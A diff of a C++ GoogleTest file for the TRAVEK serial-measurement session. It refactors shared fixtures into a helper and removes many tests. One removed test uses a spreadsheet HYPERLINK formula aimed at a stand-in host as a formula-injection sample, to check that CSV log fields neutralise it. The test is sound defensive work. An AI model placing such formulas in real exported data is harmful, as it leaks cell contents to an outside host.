@@ -1,148 +1,21 @@
 #include "core/session/Session.h"
-#include "core/session/SessionView.h"
-#include "core/text/Error.h"
-#include "core/typing/KeyOutput.h"
-#include "support/FakeEventLoop.h"
-#include "support/FakeFocusWindow.h"
-#include "support/FakeSerialDevice.h"
-#include "support/TempDir.h"
+#include "support/SessionFixture.h"
 
 #include <gmock/gmock.h>
 #include <gtest/gtest.h>
+#include "support/FakeFocusWindow.h"
 
-#include <algorithm>
-#include <array>
-#include <deque>
 #include <filesystem>
-#include <regex>
 
 using namespace travek;
+using namespace travek::test;
 using namespace std::chrono_literals;
 using testing::ElementsAre;
 using testing::HasSubstr;
 
 namespace {
 
-// Shows nothing: keeps what the session reports and answers its dialogs from the test's script.
-class FakeView : public SessionView {
-public:
-    void setPanelText(int panel, const std::string& text) override { panels.at(static_cast<std::size_t>(panel)) = text; }
-    void setActiveText(const std::string& text) override { active = text; }
-    void setCaption(const std::string& text) override { caption = text; }
-    void showSeriesCount(const std::string& text) override { seriesCount = text; }
-    void showSeriesString(const std::string& text) override { seriesString = text; }
-    void showServiceOutput(const std::string& text) override { serviceOutput = text; }
-    void setCurrentCell(int col, int row) override { cell = {col, row}; }
-    void beginGridUpdate() override { ++gridUpdates; }
-    void endGridUpdate() override {}
-    void showError(const std::string& text) override { errors.push_back(text); }
-    void beep() override { ++beeps; }
-    void showNotice(const std::string& text) override { notice = text; }
-    std::string chooseSequenceFile(bool save) override {
-        fileDialogs.push_back(save);
-        if (files.empty()) {
-            ADD_FAILURE() << "unexpected file dialog";
-            return {};
-        }
-        std::string file = files.front();
-        files.pop_front();
-        return file;
-    }
-    bool runChannelDialog(ChannelChoice& choice) override { return ask(channelDialog, choice); }
-    bool runKeyActionDialog(KeyActionList& list) override { return ask(keyDialog, list); }
-    bool runSeriesCountDialog(const SeriesCountInput& input, int& value) override {
-        return ask(countDialog, input, value);
-    }
-    bool runInterfaceDialog(const InterfaceChoice& choice, int& row) override { return ask(interfaceDialog, choice, row); }
-    bool runComPortDialog(ComPortChoice& choice) override { return ask(comPortDialog, choice); }
-    bool runTargetWindowDialog(TargetWindowChoice& choice) override { return ask(targetDialog, choice); }
-
-    std::array<std::string, 6> panels;
-    std::string active = "-", caption, seriesCount = "[ ]", seriesString, serviceOutput, notice;
-    std::pair<int, int> cell{-1, -1};
-    int gridUpdates = 0;
-    int beeps = 0;
-    std::vector<std::string> errors;
-    std::deque<std::string> files;
-    std::vector<bool> fileDialogs;
-    std::function<bool(ChannelChoice&)> channelDialog;
-    std::function<bool(KeyActionList&)> keyDialog;
-    std::function<bool(const SeriesCountInput&, int&)> countDialog;
-    std::function<bool(const InterfaceChoice&, int&)> interfaceDialog;
-    std::function<bool(ComPortChoice&)> comPortDialog;
-    std::function<bool(TargetWindowChoice&)> targetDialog;
-
-private:
-    // One answer per script: a dialog that the test did not expect fails the test.
-    template <typename Script, typename... Args> static bool ask(Script& script, Args&... args) {
-        if (!script) {
-            ADD_FAILURE() << "unexpected dialog";
-            return false;
-        }
-        Script once = std::move(script);
-        script = nullptr;
-        return once(args...);
-    }
-};
-
-class CountingKeys : public KeyOutput {
-public:
-    void SendKeys(std::string_view keys) override {
-        if (!failure.empty())
-            throw Error(failure);
-        texts.emplace_back(keys);
-    }
-    void setKeyDelay(int milliseconds) override { keyDelay = milliseconds; }
-    std::vector<std::string> texts;
-    std::string failure;
-    int keyDelay = -1;
-};
-
-std::string stepsFile(int count) {
-    std::string text;
-    for (int i = 1; i <= count; ++i)
-        text += std::to_string(i) + "\t" + std::to_string(i) + "\tk" + std::to_string(i) + ";\r\n";
-    return text;
-}
-
-// A definition for a box on COM1 with four channels, chosen by TRAVEK.INI.
-constexpr const char* BoxDefinition = "[PARAMETER]\r\nCOMx=1\r\nCNTCH=4\r\nMW_SIGN1=A:\r\nMW_SIGN3=C:\r\n"
-                                      "MWI_SIGN1=E1\r\nMWI_SIGN3=E3\r\n";
-
-class SessionTest : public ::testing::Test {
-protected:
-    void SetUp() override {
-        dir.enter();
-        device->clock = [this] { return static_cast<long long>(loop.now().count()); };
-    }
-
-    Session& open(char separator = ';') {
-        session = std::make_unique<Session>(view, loop, separator, std::make_unique<test::FakeSerialDevice>(device));
-        session->setKeyOutput(&keys);
-        session->open();
-        return *session;
-    }
-    void writeBox() {
-        dir.write("TRAVEK.INI", "[PARAMETER]\r\nINTERFACE=BOX\r\nNK=2\r\n");
-        dir.write("BOX.VAL", BoxDefinition);
-    }
-    void fillSteps(std::initializer_list<std::pair<const char*, const char*>> steps) {
-        int row = 1;
-        for (const auto& [channel, keyString] : steps) {
-            session->grid().setCell(1, row, channel);
-            session->grid().setCell(2, row++, keyString);
-        }
-    }
-    ProgramState& state() { return session->state(); }
-    SequenceTable& sequence() { return session->sequence(); }
-
-    test::TempDir dir;
-    FakeView view;
-    test::FakeEventLoop loop;
-    std::shared_ptr<test::FakeSerialDevice::Log> device = std::make_shared<test::FakeSerialDevice::Log>();
-    CountingKeys keys;
-    std::unique_ptr<Session> session;
-};
+class SessionTest : public SessionFixture {};
 
 TEST_F(SessionTest, OpensWithNinetyNineEmptyStepsOrTheSavedSequenceAndSeriesSettings) {
     open();
@@ -150,8 +23,8 @@ TEST_F(SessionTest, OpensWithNinetyNineEmptyStepsOrTheSavedSequenceAndSeriesSett
     EXPECT_EQ(session->grid().rowCount(), 100);
     EXPECT_EQ(session->grid().cell(0, 99), "99");
     EXPECT_EQ(session->grid().cell(2, 0), "Taste(n)");
-    EXPECT_EQ(view.panels[2], "0");
-    EXPECT_EQ(view.panels[3], "1");
+    EXPECT_EQ(view.panels[StatusPanel::StepCount], "0");
+    EXPECT_EQ(view.panels[StatusPanel::CurrentStep], "1");
     EXPECT_EQ(view.cell, std::make_pair(1, 1));
     EXPECT_EQ(view.seriesCount, "[ ]");
 
@@ -168,7 +41,7 @@ TEST_F(SessionTest, OpensWithNinetyNineEmptyStepsOrTheSavedSequenceAndSeriesSett
     EXPECT_EQ(view.seriesString, "{ENTER};");
     EXPECT_EQ(sequence().StepCount, 5);
     EXPECT_EQ(sequence().StepKeys[3], "k3;");
-    EXPECT_EQ(view.panels[2], "5");
+    EXPECT_EQ(view.panels[StatusPanel::StepCount], "5");
 
     // A bad series file is reported once; the grid is loaded and the sequence follows it.
     dir.write("ablauf.abl", stepsFile(3));
@@ -196,7 +69,7 @@ TEST_F(SessionTest, EditingACellAsksTheDialogOfItsColumnAndRestartsTheSequence) 
     EXPECT_EQ(sequence().StepCount, 3);
     EXPECT_EQ(sequence().StepChannel[3], 3);
     EXPECT_EQ(sequence().CurrentStep, 1);
-    EXPECT_EQ(view.panels[2], "3");
+    EXPECT_EQ(view.panels[StatusPanel::StepCount], "3");
 
     // Cancelled: the cell stays, the sequence starts again all the same.
     view.active = "Active";
@@ -282,94 +155,6 @@ TEST_F(SessionTest, InsertingAndDeletingRowsMoveTheStepsAndKeepTheRowCount) {
     EXPECT_EQ(session->grid().cell(1, 1), "2");
 }
 
-TEST_F(SessionTest, ASavedSequenceComesBackWithItsSeriesFileFromTheWorkingDirectory) {
-    open();
-    std::filesystem::create_directory(dir.file("Messung"));
-    fillSteps({{"2", "1.5{TAB};"}, {"3", "{ENTER};"}});
-    state().Series.ValXCount = 4;
-    state().Series.SeriesString = "{F2};";
-
-    view.files = {""}; // cancelled
-    session->saveSequence();
-    EXPECT_FALSE(std::filesystem::exists(dir.file("ablauf.abl")));
-
-    view.files = {dir.file("Messung/probe.abl")};
-    session->saveSequence();
-    EXPECT_EQ(dir.read("Messung/probe.abl").substr(0, 32), "1\t2\t1,5{TAB};\r\n2\t3\t{ENTER};\r\n3\t\t");
-    EXPECT_EQ(dir.read("probe.abl.pst"), "4\r\n{F2};\r\n");
-    EXPECT_FALSE(std::filesystem::exists(dir.file("Messung/probe.abl.pst")));
-    EXPECT_EQ(session->grid().cell(2, 1), "1.5{TAB};"); // only the file has the comma
-
-    state().Series.ValXCount = 9;
-    state().Series.SeriesString = "y;";
-    session->grid().setCell(1, 1, "7");
-    view.files = {dir.file("Messung/probe.abl")};
-    session->loadSequence(2, 50);
-    EXPECT_EQ(session->grid().cell(1, 1), "2");
-    EXPECT_EQ(session->grid().cell(2, 1), "1,5{TAB};");
-    EXPECT_EQ(state().Series.ValXCount, 4);
-    EXPECT_EQ(view.seriesCount, "[4]");
-    EXPECT_EQ(view.seriesString, "{F2};");
-    EXPECT_EQ(view.cell, std::make_pair(2, 50));
-    EXPECT_THAT(view.fileDialogs, ElementsAre(true, true, false));
-    // Loading changes only the grid; the running copy waits for the next double-click.
-    EXPECT_EQ(sequence().StepCount, 0);
-}
-
-TEST_F(SessionTest, LoadingReplacesTheSeriesSettingsEvenWhenTheSeriesFileIsMissingOrBad) {
-    dir.write("short.abl", stepsFile(2));
-    dir.write("long.abl", stepsFile(120));
-    dir.write("probe.abl", stepsFile(2));
-    dir.write("probe.abl.pst", "abc\r\nx;\r\n");
-    open();
-    state().Series.ValXCount = 5;
-    state().Series.SeriesString = "z;";
-    view.files = {dir.file("short.abl")};
-    session->loadSequence(2, 50);
-    EXPECT_EQ(session->grid().rowCount(), 3);
-    EXPECT_EQ(state().Series.ValXCount, 0);
-    EXPECT_EQ(state().Series.SeriesString, "");
-    EXPECT_EQ(view.seriesCount, "[0]");
-    EXPECT_EQ(view.cell, std::make_pair(2, 2)); // the current row stays inside the shorter grid
-
-    // More rows than a sequence has steps: refused, naming the file, and nothing changes.
-    state().Series.ValXCount = 7;
-    view.files = {dir.file("long.abl")};
-    session->loadSequence(1, 1);
-    EXPECT_EQ(session->grid().rowCount(), 3);
-    EXPECT_EQ(state().Series.ValXCount, 7);
-    EXPECT_THAT(view.errors, ElementsAre(dir.file("long.abl") + ": mehr als 99 Zeilen"));
-    view.errors.clear();
-
-    state().Series.ValXCount = 6;
-    view.files = {dir.file("probe.abl")};
-    session->loadSequence(1, 1);
-    EXPECT_THAT(view.errors, ElementsAre("probe.abl.pst: Ung\xFCltige numerische Eingabe"));
-    EXPECT_EQ(state().Series.ValXCount, 0);
-    EXPECT_EQ(view.seriesCount, "[0]");
-}
-
-TEST_F(SessionTest, AWriteErrorOnSaveIsShownOnceAndTruncatesNothing) {
-    open();
-    fillSteps({{"1", "a;"}});
-    state().Series.ValXCount = 2;
-    // A folder in the way of the sequence file: the grid save fails, the series file stays old.
-    std::filesystem::create_directory(dir.file("blocked.abl"));
-    dir.write("blocked.abl.pst", "7\r\nalt;\r\n");
-    view.files = {dir.file("blocked.abl")};
-    session->saveSequence();
-    EXPECT_EQ(view.errors.size(), 1u);
-    EXPECT_EQ(dir.read("blocked.abl.pst"), "7\r\nalt;\r\n");
-
-    // A folder in the way of the series file: the sequence file is written.
-    dir.write("probe.abl", "alt\r\n");
-    std::filesystem::create_directory(dir.file("probe.abl.pst"));
-    view.files = {dir.file("probe.abl")};
-    session->saveSequence();
-    EXPECT_EQ(view.errors.size(), 2u);
-    EXPECT_EQ(dir.read("probe.abl").substr(0, 8), "1\t1\ta;\r\n");
-}
-
 TEST_F(SessionTest, TheSeriesCountAndStringAreEditedThroughTheirDialogs) {
     open();
     state().Series.ValueCounter = 3;
@@ -411,8 +196,8 @@ TEST_F(SessionTest, StartUpActivatesTheBoxOneChannelCommandEveryHundredMilliseco
     EXPECT_EQ(device->opens, 0);
     loop.advance(1ms);
     EXPECT_EQ(view.caption, "TRAVEK v1.01  BOX");
-    EXPECT_EQ(view.panels[0], "COM 1");
-    EXPECT_EQ(view.panels[1], "BOX");
+    EXPECT_EQ(view.panels[StatusPanel::Port], "COM 1");
+    EXPECT_EQ(view.panels[StatusPanel::Interface], "BOX");
     EXPECT_EQ(state().NK, 2);
     EXPECT_EQ(keys.keyDelay, 0) << "full speed unless KEYDELAY says otherwise";
     EXPECT_EQ(session->channels().entries().size(), 4u);
@@ -451,7 +236,7 @@ TEST_F(SessionTest, ASecondInitStartsOverAndClosingThePortStopsTheActivation) {
 
     session->initInterface();
     session->portLost();
-    EXPECT_EQ(view.panels[0], "COM ?");
+    EXPECT_EQ(view.panels[StatusPanel::Port], "COM ?");
     EXPECT_EQ(view.active, "Comport ??");
     loop.advance(500ms);
     EXPECT_EQ(view.active, "Comport ??");
@@ -472,7 +257,7 @@ TEST_F(SessionTest, APortThatDoesNotOpenIsReportedAndLeavesThePortUnknown) {
     session->startUp();
     EXPECT_THAT(view.errors, ElementsAre("COM1 Error"));
     EXPECT_EQ(keys.keyDelay, 5);
-    EXPECT_EQ(view.panels[0], "COM ?");
+    EXPECT_EQ(view.panels[StatusPanel::Port], "COM ?");
     EXPECT_EQ(view.active, "Comport ??");
 }
 
@@ -489,7 +274,7 @@ TEST_F(SessionTest, ChoosingAPortStoresItInTheDefinitionFileAndReopens) {
     session->choosePort();
     EXPECT_THAT(dir.read("BOX.VAL"), HasSubstr("COMx=12\r\n"));
     EXPECT_EQ(device->openedIndex, 11);
-    EXPECT_EQ(view.panels[0], "COM 12");
+    EXPECT_EQ(view.panels[StatusPanel::Port], "COM 12");
 
     // Cancelled: nothing changes.
     view.comPortDialog = [](ComPortChoice& choice) {
@@ -524,8 +309,8 @@ TEST_F(SessionTest, ChoosingAnInterfaceLoadsItsDefinitionOrKeepsTheName) {
     session->chooseInterface();
     EXPECT_EQ(state().Definition.InterfaceName, "SCALE");
     EXPECT_EQ(view.caption, "TRAVEK v1.01  SCALE");
-    EXPECT_EQ(view.panels[0], "DONE");
-    EXPECT_EQ(view.panels[1], "SCALE");
+    EXPECT_EQ(view.panels[StatusPanel::Port], "DONE");
+    EXPECT_EQ(view.panels[StatusPanel::Interface], "SCALE");
     EXPECT_EQ(session->channels().entries().size(), 6u);
 
     // Nothing chosen (no definition files): the name stays, or ".VAL" would be looked for.
@@ -537,344 +322,26 @@ TEST_F(SessionTest, ChoosingAnInterfaceLoadsItsDefinitionOrKeepsTheName) {
     EXPECT_EQ(state().Definition.InterfaceName, "SCALE");
 }
 
-TEST_F(SessionTest, ShutDownSavesEachFileOnItsOwnOnceAndClosesThePort) {
-    writeBox();
-    open();
-    session->startUp();
-    std::filesystem::create_directory(dir.file("ablauf.abl")); // in the way of the sequence file
-    state().Series.ValXCount = 5;
-    session->shutDown(false);
-    ASSERT_EQ(view.errors.size(), 1u);
-    EXPECT_THAT(view.errors[0], testing::StartsWith("ablauf.abl: "));
-    EXPECT_EQ(dir.read("ablauf.pst"), "5\r\n\r\n");
-    EXPECT_THAT(dir.read("TRAVEK.INI"), HasSubstr("INTERFACE=BOX"));
-    EXPECT_FALSE(session->port().IsPortOpen());
-    session->shutDown(false);
-    EXPECT_EQ(view.errors.size(), 1u);
-
-    // Unattended, the errors go to standard error instead of a box. (Opening says at once that
-    // the folder is in the way.)
-    open();
-    ASSERT_EQ(view.errors.size(), 2u);
-    EXPECT_EQ(view.errors[1], "ablauf.abl: ein Ordner, keine Datei");
-    testing::internal::CaptureStderr();
-    session->shutDown(true);
-    EXPECT_THAT(testing::internal::GetCapturedStderr(), testing::StartsWith("travek: ablauf.abl: "));
-    EXPECT_EQ(view.errors.size(), 2u);
-}
-
 TEST_F(SessionTest, ReceivedLinesAreTypedAndALostDevicesHalfLineIsDropped) {
     writeBox();
     dir.write("ablauf.abl", "1\t1\t{TAB};\r\n");
     open();
     session->startUp();
     const std::string line = "A: 12,345\r";
-    session->port().OnReceiveData(line.data(), static_cast<std::int32_t>(line.size()));
+    receive(line);
     EXPECT_THAT(keys.texts, ElementsAre("12,35", "{TAB}"));
-    EXPECT_EQ(view.panels[4], "1 [OK]");
-    EXPECT_EQ(view.panels[5], "A: 12,345");
+    EXPECT_EQ(view.panels[StatusPanel::Channel], "1 [OK]");
+    EXPECT_EQ(view.panels[StatusPanel::Line], "A: 12,345");
 
     // The start of a line from a device that went away does not stick to the next device's first.
     const std::string cut = "A: 7,";
-    session->port().OnReceiveData(cut.data(), static_cast<std::int32_t>(cut.size()));
+    receive(cut);
     session->portLost();
     session->startUp();
     const std::string next = "A: 4,56\r";
-    session->port().OnReceiveData(next.data(), static_cast<std::int32_t>(next.size()));
+    receive(next);
     EXPECT_THAT(keys.texts, ElementsAre("12,35", "{TAB}", "4,56", "{TAB}"));
 }
-
-TEST_F(SessionTest, AMissingKeyboardOrOneTheDesktopTookAwayIsShownAndTheLinesGoOn) {
-    writeBox();
-    dir.write("TRAVEK.INI", "[PARAMETER]\r\nINTERFACE=BOX\r\nNK=2\r\n[LOG]\r\nFILE=log.csv\r\n");
-    dir.write("ablauf.abl", "1\t1\t{TAB};\r\n2\t1\t{ENTER};\r\n");
-    open();
-    session->startUp();
-    keys.failure = "the desktop ended the keyboard session";
-    const std::string line = "A: 1,5\r";
-    session->port().OnReceiveData(line.data(), static_cast<std::int32_t>(line.size()));
-    EXPECT_EQ(view.panels[5], keys.failure);
-    EXPECT_EQ(view.notice, keys.failure);
-    EXPECT_TRUE(view.errors.empty());
-
-    keys.failure.clear();
-    session->port().OnReceiveData(line.data(), static_cast<std::int32_t>(line.size()));
-    EXPECT_THAT(keys.texts, ElementsAre("1,50", "{ENTER}"));
-    EXPECT_EQ(view.notice, "");
-    // Without any keyboard the panel says why from the start, and again after every line.
-    session->setKeyOutput(nullptr, "Keystrokes cannot be typed: no desktop");
-    EXPECT_EQ(view.panels[5], "Keystrokes cannot be typed: no desktop");
-    EXPECT_EQ(view.notice, "Keystrokes cannot be typed: no desktop");
-    session->port().OnReceiveData(line.data(), static_cast<std::int32_t>(line.size()));
-    EXPECT_EQ(view.panels[5], "Keystrokes cannot be typed: no desktop");
-
-    // The measurement log does not claim the values that never arrived.
-    const std::string log = dir.read("log.csv");
-    EXPECT_NE(log.find(";1;1;A: 1,5;;nicht getippt: the desktop ended the keyboard session;\r\n"), std::string::npos)
-        << log;
-    EXPECT_NE(log.find(";1;2;A: 1,5;1,50;;\r\n"), std::string::npos) << log;
-    EXPECT_NE(log.find(";;nicht getippt: Keystrokes cannot be typed: no desktop;\r\n"), std::string::npos) << log;
-}
-
-} // namespace
-
-namespace {
-
-TEST_F(SessionTest, ALostPortIsTriedAgainEverySecondAndTheSequenceGoesOn) {
-    writeBox();
-    dir.write("ablauf.abl", "1\t1\t{TAB};\r\n2\t1\t{ENTER};\r\n");
-    open();
-    session->startUp();
-    loop.advance(1s);
-    const std::string first = "A: 1,00\r";
-    session->port().OnReceiveData(first.data(), static_cast<std::int32_t>(first.size()));
-    EXPECT_EQ(sequence().CurrentStep, 2);
-
-    // The adapter is pulled: the driver closes the port and says so.
-    device->open = false;
-    device->openable = false;
-    session->port().ClosePort();
-    session->portLost();
-    const int opensBefore = device->opens;
-    loop.advance(3s);
-    EXPECT_EQ(device->opens, opensBefore + 3) << "once a second, quietly";
-    EXPECT_TRUE(view.errors.empty());
-    EXPECT_EQ(view.active, "Comport ??");
-
-    // Plugged in again: the settings and the channel commands go out as at "Init Interface".
-    device->openable = true;
-    device->written.clear();
-    device->settings = SerialSettings{};
-    loop.advance(1s);
-    EXPECT_TRUE(session->port().IsPortOpen());
-    EXPECT_EQ(view.panels[0], "COM 1");
-    EXPECT_EQ(device->written, "D0\rE1\r");
-    EXPECT_EQ(device->settings.speed, br9600);
-    loop.advance(100ms);
-    EXPECT_EQ(view.active, "Active");
-    EXPECT_FALSE(session->reconnecting());
-    const std::string next = "A: 2,00\r";
-    session->port().OnReceiveData(next.data(), static_cast<std::int32_t>(next.size()));
-    EXPECT_THAT(keys.texts, ElementsAre("1,00", "{TAB}", "2,00", "{ENTER}"));
-
-    // The user's own choice of port ends the waiting for the old one.
-    device->open = false;
-    device->openable = false;
-    session->port().ClosePort();
-    session->portLost();
-    view.comPortDialog = [](ComPortChoice& choice) {
-        choice.select(1);
-        return true;
-    };
-    session->choosePort();
-    EXPECT_FALSE(session->reconnecting());
-    const int opensAfterChoice = device->opens;
-    loop.advance(5s);
-    EXPECT_EQ(device->opens, opensAfterChoice);
-}
-
-TEST_F(SessionTest, TheMeasurementLogHasARowForEveryLineWithWhyNothingWasTyped) {
-    writeBox();
-    dir.write("TRAVEK.INI", "[PARAMETER]\r\nINTERFACE=BOX\r\nNK=2\r\n[LOG]\r\nFILE=messung.csv\r\n");
-    dir.write("BOX.VAL", std::string(BoxDefinition) + "STARTPOS=4\r\nENDPOS=12\r\n");
-    dir.write("ablauf.abl", "1\t1\t{TAB};\r\n");
-    open();
-    session->startUp();
-    const std::string lines = "C: 1,5\rA: ERR\rA: 2,5\r";
-    session->port().OnReceiveData(lines.data(), static_cast<std::int32_t>(lines.size()));
-    EXPECT_THAT(keys.texts, ElementsAre("2,50", "{TAB}"));
-
-    const std::string log = dir.read("messung.csv");
-    const std::regex rows("Zeit;Port;Kanal;Schritt;Zeile;Getippt;Hinweis;Fenster\r\n"
-                          "\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d\\.\\d{3};COM1;3;1;C: 1,5;;Schritt 1 erwartet Kanal 1;\r\n"
-                          "[-0-9T:.]+;COM1;1;1;A: ERR;;keine Zahl im Wert;\r\n"
-                          "[-0-9T:.]+;COM1;1;1;A: 2,5;2,50;;\r\n");
-    EXPECT_TRUE(std::regex_match(log, rows)) << log;
-
-    // A log that cannot be written is said once; the values are still typed.
-    dir.write("TRAVEK.INI", "[PARAMETER]\r\nINTERFACE=BOX\r\nNK=2\r\n[LOG]\r\nFILE=nicht/da.csv\r\n");
-    session->startUp();
-    testing::internal::CaptureStderr();
-    session->port().OnReceiveData(lines.data(), static_cast<std::int32_t>(lines.size()));
-    session->port().OnReceiveData(lines.data(), static_cast<std::int32_t>(lines.size()));
-    const std::string said = testing::internal::GetCapturedStderr();
-    EXPECT_THAT(said, testing::StartsWith("travek: Protokoll nicht/da.csv: "));
-    EXPECT_EQ(std::count(said.begin(), said.end(), '\n'), 1) << said;
-    EXPECT_EQ(keys.texts.size(), 6u);
-    // The line panel moves on with the next line; the notice stays while the log fails.
-    EXPECT_THAT(view.notice, testing::StartsWith("Protokoll nicht/da.csv: "));
-    EXPECT_NE(view.panels[5].find("A: 2,5"), std::string::npos);
-
-    // Once the log can be written, the notice goes; and the next outage is news again.
-    std::filesystem::create_directory(dir.file("nicht"));
-    testing::internal::CaptureStderr();
-    session->port().OnReceiveData(lines.data(), static_cast<std::int32_t>(lines.size()));
-    EXPECT_EQ(view.notice, "");
-    std::filesystem::remove(dir.file("nicht/da.csv"));
-    std::error_code inUse;
-    std::filesystem::create_directory(dir.file("nicht/da.csv"), inUse);
-    if (inUse) {
-        testing::internal::GetCapturedStderr();
-        GTEST_SKIP() << "here a file that is open cannot give its name to a folder";
-    }
-    session->port().OnReceiveData(lines.data(), static_cast<std::int32_t>(lines.size()));
-    session->port().OnReceiveData(lines.data(), static_cast<std::int32_t>(lines.size()));
-    EXPECT_EQ(testing::internal::GetCapturedStderr(), "travek: Protokoll nicht/da.csv: ein Ordner, keine Datei\n");
-}
-
-TEST(MeasurementLog, FieldsAreQuotedAndLinesEscapedSoEachRowStaysOneRow) {
-    EXPECT_EQ(MeasurementLog::field("1,5"), "1,5");
-    EXPECT_EQ(MeasurementLog::field("a;b"), "\"a;b\"");
-    EXPECT_EQ(MeasurementLog::field("say \"x\""), "\"say \"\"x\"\"\"");
-    EXPECT_EQ(MeasurementLog::escapeLine("\nA:\t1\\2\x7F"), "\\x0AA:\\x091\\\\2\\x7F");
-    EXPECT_EQ(MeasurementLog::escapeLine("Gr\xF6\xDF" "e"), "Gr\xF6\xDF" "e");
-    // A text that a spreadsheet would compute shows as text; a typed value stays a number.
-    EXPECT_EQ(MeasurementLog::textField("=HYPERLINK(\"http://e.x/?\"&A1)"), "\"'=HYPERLINK(\"\"http://e.x/?\"\"&A1)\"");
-    for (const char* formula : {"=1+1", "+1", "-1", "@SUM(A1)", "\t1", "\r1"})
-        EXPECT_EQ(MeasurementLog::textField(formula), "\"'" + std::string(formula) + "\"") << formula;
-    EXPECT_EQ(MeasurementLog::textField("A: 1,5"), "A: 1,5");
-    EXPECT_EQ(MeasurementLog::field("-1,234"), "-1,234");
-}
-
-} // namespace
-
-// Folders named like TRAVEK's files: each is refused with its name, the rest of the start-up and
-// of the exit go on, and nothing ends the program.
-TEST_F(SessionTest, AFolderInTheWayOfAFileIsRefusedByNameAndTheRestGoesOn) {
-    dir.write("ablauf.abl", "1\t1\t{TAB};\r\n");
-    std::filesystem::create_directory(dir.file("ablauf.pst"));
-    std::filesystem::create_directory(dir.file("TRAVEK.INI"));
-    std::filesystem::create_directory(dir.file("ALT.VAL"));
-    open();
-    // The definition list holds regular files only, so it is empty, and that is heard at once.
-    EXPECT_EQ(view.beeps, 1);
-    EXPECT_THAT(view.errors, ElementsAre("ablauf.pst: ein Ordner, keine Datei"));
-    EXPECT_EQ(session->grid().cell(2, 1), "{TAB};");
-    session->startUp();
-    EXPECT_THAT(view.errors, testing::Contains("TRAVEK.INI: ein Ordner, keine Datei"));
-    EXPECT_EQ(view.panels[1], "PX5R"); // the defaults, as without the file
-    view.errors.clear();
-    session->grid().setCell(2, 1, "{ENTER};");
-    session->shutDown(false);
-    ASSERT_EQ(view.errors.size(), 1u);
-    EXPECT_EQ(view.errors[0], "TRAVEK.INI: ein Ordner, keine Datei\nablauf.pst: ein Ordner, keine Datei");
-    EXPECT_EQ(dir.read("ablauf.abl"), "1\t1\t{ENTER};\r\n");
-}
-
-// A sequence file too long to be one is not loaded, and so never replaced by what the session
-// holds: not after an edit, not at the exit.
-TEST_F(SessionTest, ASequenceFileThatWasRefusedIsNeverWrittenOver) {
-    dir.write("ablauf.abl", stepsFile(120));
-    open();
-    EXPECT_THAT(view.errors, ElementsAre("ablauf.abl: mehr als 99 Zeilen"));
-    session->insertRow(1, 1);
-    loop.advance(Session::SaveDelay);
-    session->shutDown(false);
-    EXPECT_EQ(dir.read("ablauf.abl"), stepsFile(120));
-    EXPECT_THAT(view.errors.back(), HasSubstr("ablauf.abl: beim Start nicht geladen"));
-}
-
-// What the exit would save is saved a second after every change, so that a program that is
-// killed, or whose desktop dies, loses nothing. A file that cannot be written is said once, not
-// at every edit, and again when it fails anew after a success.
-TEST_F(SessionTest, EveryChangeIsSavedASecondLaterAsTheExitWouldSaveIt) {
-    writeBox();
-    dir.write("ablauf.abl", stepsFile(2));
-    open();
-    session->startUp();
-    view.countDialog = [](const SeriesCountInput&, int& value) {
-        value = 4;
-        return true;
-    };
-    session->editSeriesCount();
-    session->insertRow(1, 1);
-    loop.advance(Session::SaveDelay - std::chrono::milliseconds(1));
-    EXPECT_FALSE(std::filesystem::exists(dir.file("ablauf.pst")));
-    loop.advance(std::chrono::milliseconds(1));
-    const std::string sequence = dir.read("ablauf.abl"), series = dir.read("ablauf.pst");
-    EXPECT_EQ(sequence, "1\t\t\r\n2\t1\tk1;\r\n");
-    EXPECT_EQ(series, "4\r\n\r\n");
-    EXPECT_THAT(dir.read("TRAVEK.INI"), HasSubstr("INTERFACE=BOX"));
-
-    std::filesystem::permissions(dir.file("ablauf.pst"), std::filesystem::perms::owner_read);
-    for (int edit = 0; edit < 3; ++edit) {
-        session->insertRow(1, 1);
-        loop.advance(Session::SaveDelay);
-    }
-    ASSERT_EQ(view.errors.size(), 1u);
-    EXPECT_THAT(view.errors[0], HasSubstr("ablauf.pst: "));
-    std::filesystem::permissions(dir.file("ablauf.pst"), std::filesystem::perms::owner_all);
-    session->deleteRow(1, 1);
-    loop.advance(Session::SaveDelay);
-    std::filesystem::permissions(dir.file("ablauf.pst"), std::filesystem::perms::owner_read);
-    session->deleteRow(1, 1);
-    loop.advance(Session::SaveDelay);
-    EXPECT_EQ(view.errors.size(), 2u);
-    std::filesystem::permissions(dir.file("ablauf.pst"), std::filesystem::perms::owner_all);
-
-    // The exit writes the very same files.
-    session->deleteRow(1, 1);
-    loop.advance(Session::SaveDelay);
-    const std::string saved = dir.read("ablauf.abl");
-    session->shutDown(false);
-    EXPECT_EQ(dir.read("ablauf.abl"), saved);
-    EXPECT_EQ(dir.read("ablauf.pst"), series);
-}
-
-// A reconnect opens only the device that was lost. One that nothing can tell from the next
-// (a pty or a built-in port named by its node) is left to the user; another device under the
-// name is not opened, and the tries go on for the right one.
-TEST_F(SessionTest, OnlyTheLostDeviceIsOpenedAgainByItself) {
-    writeBox();
-    open();
-    session->startUp();
-    const auto lose = [this] {
-        device->open = false;
-        session->port().ClosePort();
-        session->portLost();
-    };
-    device->returns = SerialDevice::Return::NotBack;
-    lose();
-    int opens = device->opens;
-    loop.advance(3s);
-    EXPECT_EQ(device->opens, opens);
-    EXPECT_TRUE(session->reconnecting());
-    device->returns = SerialDevice::Return::Back;
-    loop.advance(1s);
-    EXPECT_TRUE(session->port().IsPortOpen());
-
-    device->returns = SerialDevice::Return::NeverByItself;
-    lose();
-    opens = device->opens;
-    loop.advance(5s);
-    EXPECT_EQ(device->opens, opens);
-    EXPECT_FALSE(session->reconnecting());
-    EXPECT_EQ(view.panels[5], "COM1 ist fort; \"Einstellungen > Comport\" \xF6" "ffnet den Port wieder");
-    EXPECT_EQ(view.active, "Comport ??");
-}
-
-// A busy device folder starts at most one try per DeviceEventSpacing.
-TEST_F(SessionTest, AFloodOfDeviceEventsStartsFewTries) {
-    writeBox();
-    open();
-    session->startUp();
-    device->open = false;
-    device->openable = false;
-    session->port().ClosePort();
-    session->portLost();
-    std::intptr_t folder = -1;
-    for (std::intptr_t handle : loop.watchedHandles())
-        folder = handle;
-    if (folder < 0)
-        GTEST_SKIP() << "this platform does not watch the device's folder";
-    const int opens = device->opens;
-    for (int event = 0; event < 1000; ++event)
-        loop.makeReadable(folder);
-    loop.advance(Session::DeviceEventSpacing);
-    EXPECT_EQ(device->opens, opens + 2); // one at once, one for the rest at the end of the spacing
-}
-
-namespace {
 
 class TargetWindowSessionTest : public SessionTest {
 protected:
